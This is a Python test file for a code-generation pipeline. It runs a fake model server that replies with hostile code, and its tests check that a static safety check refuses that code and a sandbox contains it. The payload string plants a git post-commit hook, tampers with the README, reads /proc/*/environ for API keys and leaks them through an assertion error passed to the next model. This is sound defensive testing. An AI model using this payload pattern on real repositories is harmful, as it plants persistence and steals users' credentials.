"""End to end, as the attacker tried it: a model server that answers with hostile code.

The flow runs for real (Prefect test server, real git repository, real validation and
sandbox); only the model is fake: an OpenAI-compatible server on loopback that answers every
request with code that attacks the user's repository, its git hooks, home and keys when it
runs. Whatever the request allows, the user's tree, ``.git/hooks`` and keys stay untouched.
"""

from __future__ import annotations

import asyncio
import json
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from frugalflow.core.schemas import CodeRequest, CodeResult, RunStatus
from frugalflow.flows.codegen import codegen
from frugalflow.money.ledger import CostLedger
from frugalflow.validation import sandbox
from tests.support.git import git

pytestmark = [
    pytest.mark.prefect,
    pytest.mark.usefixtures("prefect_server"),
    pytest.mark.skipif(
        sandbox.unavailable_reason() is not None,
        reason=f"no sandbox on this machine: {sandbox.unavailable_reason()}",
    ),
]

SECRET = "sk-proj-HOSTILEMODELTEST0123456789abcdefghijkl"


def hostile_code(repo: Path) -> str:
    hook = repo / ".git/hooks/post-commit"
    return (
        "import glob\n\n\n"
        "def add(a, b):\n"
        '    """Add two numbers."""\n'
        "    for path, text in (\n"
        f"        ({str(repo / 'README.md')!r}, 'pwned'),\n"
        f"        ({str(hook)!r}, '#!/bin/sh\\ntouch /tmp/owned\\n'),\n"
        "    ):\n"
        "        try:\n"
        "            with open(path, 'a') as handle:\n"
        "                handle.write(text)\n"
        "        except OSError:\n"
        "            pass\n"
        "    stolen = ''\n"
        "    for environ in glob.glob('/proc/*/environ'):\n"
        "        try:\n"
        "            stolen += open(environ, 'rb').read().decode('latin-1')\n"
        "        except OSError:\n"
        "            pass\n"
        "    if 'sk-proj-' in stolen:\n"
        "        raise AssertionError(stolen)  # the report is fed to the next model\n"
        "    return a + b\n"
    )


@pytest.fixture
def hostile_server(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[str], None]]:
    """An OpenAI-compatible server on loopback, configured as the only model; the test sets
    the code it answers with."""
    reply = {"code": ""}

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

        def _send(self, body: bytes, content_type: str = "application/json") -> None:
            self.send_response(200)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_GET(self) -> None:
            self._send(json.dumps({"object": "list", "data": [{"id": "evil"}]}).encode())

        def do_POST(self) -> None:
            request = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            content = f"```python\n{reply['code']}```\n"
            usage = {"prompt_tokens": 50, "completion_tokens": 80, "total_tokens": 130}
            if not request.get("stream"):
                body = {
                    "id": "chatcmpl-1",
                    "object": "chat.completion",
                    "created": 0,
                    "model": "evil",
                    "choices": [
                        {
                            "index": 0,
                            "message": {"role": "assistant", "content": content},
                            "finish_reason": "stop",
                        }
                    ],
                    "usage": usage,
                }
                self._send(json.dumps(body).encode())
                return
            chunks = [
                {"choices": [{"index": 0, "delta": {"role": "assistant", "content": content}}]},
                {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]},
                {"choices": [], "usage": usage},
            ]
            events = "".join(
                "data: "
                + json.dumps(
                    {"id": "c", "object": "chat.completion.chunk", "created": 0, "model": "evil"}
                    | chunk
                )
                + "\n\n"
                for chunk in chunks
            )
            self._send((events + "data: [DONE]\n\n").encode(), "text/event-stream")

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    monkeypatch.setenv(
        "FRUGALFLOW_OPENAI_COMPATIBLE_BASE_URL", f"http://127.0.0.1:{server.server_port}/v1"
    )
    monkeypatch.setenv("FRUGALFLOW_MODELS", '["openai-compatible:evil"]')
    monkeypatch.setenv("FRUGALFLOW_MAX_ATTEMPTS", "1")
    yield lambda code: reply.update(code=code)
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture
def victim(
    make_git_repo: Callable[..., Path],
    hostile_server: Callable[[str], None],
    monkeypatch: pytest.MonkeyPatch,
    ledger_path: Path,
) -> Path:
    repo = make_git_repo({"README.md": "# mine\n", "src/calc/__init__.py": ""})
    (repo / "NOTES.md").write_text("uncommitted\n")
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    hostile_server(hostile_code(repo))
    return repo


def run_flow(request: CodeRequest) -> CodeResult:
    async def go() -> CodeResult:
        state = await codegen(request, return_state=True)
        result = await state.aresult(raise_on_failure=False)
        assert isinstance(result, CodeResult), result
        return result

    return asyncio.run(go())


def tree(repo: Path) -> dict[str, object]:
    return {
        "readme": (repo / "README.md").read_text(),
        "notes": (repo / "NOTES.md").read_text(),
        "status": git(repo, "status", "--porcelain"),
        "hooks": sorted(path.name for path in (repo / ".git/hooks").iterdir()),
        "branches": git(repo, "branch", "--list"),
    }


def test_hostile_code_is_refused_by_the_static_check_and_nothing_is_committed(
    victim: Path, ledger_path: Path
) -> None:
    before = tree(victim)
    result = run_flow(
        CodeRequest(
            description="Add a function add(a, b) that adds two numbers",
            repo=victim,
            examples=("assert add(1, 2) == 3",),
        )
    )

    assert result.status is RunStatus.FAILED, result.reason
    assert "safety" in result.reason or "dangerous" in result.reason.lower(), result.reason
    assert tree(victim) == before
    assert not (victim / ".git/hooks/post-commit").exists()


def test_hostile_code_the_user_allowed_runs_only_in_the_sandbox(
    victim: Path, ledger_path: Path
) -> None:
    """With ``allow_dangerous`` the static check lets it through and its example runs: in the
    sandbox, where the repository, its hooks and the keys are out of reach. The code passes
    its example (its attacks failed silently), so it is committed on the work branch, as the
    user allowed; the user's own branch, files and hooks are as they were."""
    before = tree(victim)
    result = run_flow(
        CodeRequest(
            description="Add a function add(a, b) that adds two numbers",
            repo=victim,
            examples=("assert add(1, 2) == 3",),
            allow_dangerous=True,
        )
    )

    assert result.status is RunStatus.COMPLETED, result.reason
    after = tree(victim)
    assert after["branches"] != before["branches"]  # the one new branch
    assert {k: v for k, v in after.items() if k != "branches"} == {
        k: v for k, v in before.items() if k != "branches"
    }
    assert not (victim / ".git/hooks/post-commit").exists()
    assert SECRET not in result.model_dump_json()
    for call in CostLedger(ledger_path).calls_for_request(result.request_id):
        assert SECRET not in call.model_dump_json()
